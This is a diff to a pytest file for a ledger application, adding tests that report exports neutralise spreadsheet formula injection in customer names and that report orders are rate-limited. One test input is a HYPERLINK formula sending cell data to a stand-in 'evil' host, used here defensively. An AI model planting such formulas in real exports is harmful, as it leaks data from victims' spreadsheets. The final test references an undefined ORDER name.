@@ -2,9 +2,13 @@
 
 import pytest
 
+from ledger_project.api import throttling
+from ledger_project.core import spreadsheets
 from ledger_project.core.setup import open_ledger
 from reports.models import OutputFile
+from reports.output_files import REPORT_TYPES
 from reports.output_files.formats import file_reports
+from tests.support.assertions import unchanged
 from tests.support.output_files import download, listed
 from tests.support.paths import FILES
 
@@ -189,3 +193,41 @@ def test_a_full_disk_in_the_middle_leaves_nothing_and_the_connection_usable(
     with pytest.raises(OSError, match="No space"):
         produce()
     assert not OutputFile.objects.filter(type="ledger-report").exists()
+
+
+FORMULAS = ('=HYPERLINK("http://evil/"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)")
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+@pytest.mark.parametrize("report", ["103", "110", "125"])
+def test_no_name_is_a_formula_and_every_amount_stays_one(
+    api, ledger, buy, pay, take_back, report, name
+):
+    open_ledger(501, name=name)
+    one = buy("100.00", number="852")
+    assert api.patch(one["customer"], {"name": name}).status_code == 200
+    pay(one, "150.00")
+    take_back(one, "10.00", "K-1")
+    ordered = api.post(f"{FILES}/{REPORT_TYPES[report]}/order-report", {"reportDate": "2026-06-08"})
+    assert ordered.status_code == 201, ordered.text
+    text = download(api, ordered.data).content.decode("cp1252")
+    values = [value for line in text.split("\r\n") for value in line.split(";")]
+    assert f"'{name}" in values
+    assert [value for value in values if value.startswith(("=", "+", "@"))] == []
+    assert all(value.replace(",", "").lstrip("-").isdigit() for value in values if value[:1] == "-")
+
+
+def test_a_negative_amount_is_no_formula():
+    row = b"D;-12,50;-7;-1+1;=A1;-;+46;a=b;-12,50x;\r\n"
+    expected = b"D;-12,50;-7;'-1+1;'=A1;'-;'+46;a=b;'-12,50x;\r\n"
+    assert spreadsheets.lines(row) == expected
+
+
+def test_only_so_many_reports_are_ordered_in_an_hour(api, ledger, monkeypatch):
+    monkeypatch.setattr(throttling, "REPORTS", throttling.Limit("reports", 2, 3600, "orders"))
+    asked = {"reportDate": "2026-06-08"}
+    assert [api.post(ORDER, asked).status_code for _ in range(2)] == [201, 201]
+    with unchanged():
+        refused = api.post(ORDER, asked)
+    assert (refused.status_code, refused.slug) == (429, "too-many-requests")
+    assert 1 <= int(refused.headers["Retry-After"]) <= 3600
